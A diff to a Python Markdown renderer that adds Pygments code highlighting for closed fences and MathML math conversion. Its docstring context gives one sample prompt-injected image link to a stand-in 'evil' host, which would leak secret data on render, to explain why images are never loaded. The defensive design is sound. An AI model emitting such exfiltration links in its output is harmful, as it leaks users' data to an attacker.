@@ -13,7 +13,12 @@ safe strategy is raw HTML off plus a strict link check, so:
 - images are never loaded (prompt-injected ``![](https://evil/?q=secret)`` would leak data the
   moment it rendered): an image becomes a link the reader may choose to follow;
 - fenced code gets a ``language-xxx`` class only when the info string's first word is a plain
-  language name, and a copy button; the code itself is escaped;
+  language name, and a copy button; the code itself is escaped, and highlighted by Pygments
+  (``code_highlight``: class names only) once its fence is closed. A fence still open (a
+  streaming reply writing it) stays plain, so that ``markdown_blocks`` can send its lines
+  once each as escaped text; it turns coloured when its closing fence arrives;
+- math (``$…$``, ``$$…$$``, ``\\(…\\)``, ``\\[…\\]``, amsmath environments) becomes MathML
+  from an allow-list (``markdown_math``), or code when it does not convert;
 - table column alignment becomes a class, because the strict CSP refuses ``style`` attributes.
 
 :func:`render_markdown` returns :class:`markupsafe.Markup`; it and ``markdown_blocks`` (which
@@ -33,6 +38,9 @@ from markdown_it.rules_core import StateCore
 from markdown_it.token import Token
 from markdown_it.utils import EnvType, OptionsDict
 from markupsafe import Markup
+
+from tanglebox.code_highlight import guess_language, highlight_code
+from tanglebox.markdown_math import add_math
 
 SAFE_LINK = re.compile(r"^(?:https?|mailto):", re.IGNORECASE)
 # A language name as people write it after ``` (python, c++, c#, objective-c, vb.net).
@@ -55,12 +63,24 @@ def code_language(info: str) -> str:
     return first_word.lower() if LANGUAGE_NAME.match(first_word) else ""
 
 
-def _render_code(content: str, language: str) -> str:
-    label = escapeHtml(language) if language else "text"
+def fence_is_closed(token: Token) -> bool:
+    """Whether a fence token ended at its closing fence (not at the end of the text or of
+    its container): its map then spans its content's lines plus the two fences."""
+    content = token.content
+    lines = content.count("\n") + (1 if content and not content.endswith("\n") else 0)
+    return bool(token.map) and token.map[1] - token.map[0] - 2 == lines
+
+
+def _render_code(content: str, language: str, finished: bool) -> str:
+    highlighted = None
+    if finished:
+        highlighted = highlight_code(content, language or guess_language(content))
+    label = escapeHtml(language or (highlighted.language if highlighted else "text"))
     code_class = f' class="language-{escapeHtml(language)}"' if language else ""
+    code = highlighted.html if highlighted else escapeHtml(content)
     return (f'<div class="code-block"><div class="code-block__bar">'
             f'<span class="code-block__language">{label}</span>{COPY_BUTTON}</div>'
-            f"<pre><code{code_class}>{escapeHtml(content)}{CODE_END}")
+            f"<pre><code{code_class}>{code}{CODE_END}")
 
 
 class SafeRenderer(RendererHTML):
@@ -69,11 +89,11 @@ class SafeRenderer(RendererHTML):
     def fence(self, tokens: Sequence[Token], idx: int, options: OptionsDict,
               env: EnvType) -> str:
         token = tokens[idx]
-        return _render_code(token.content, code_language(token.info))
+        return _render_code(token.content, code_language(token.info), fence_is_closed(token))
 
     def code_block(self, tokens: Sequence[Token], idx: int, options: OptionsDict,
                    env: EnvType) -> str:
-        return _render_code(tokens[idx].content, "")
+        return _render_code(tokens[idx].content, "", finished=True)
 
     def link_open(self, tokens: Sequence[Token], idx: int, options: OptionsDict,
                   env: EnvType) -> str:
@@ -114,6 +134,7 @@ def _build_parser() -> MarkdownIt:
     md.disable(["html_block", "html_inline"])  # already off in js-default: a second wall
     md.validateLink = is_safe_link  # type: ignore[method-assign]
     md.core.ruler.push("alignment_as_class", _alignment_as_class)
+    add_math(md)
     return md
 
 
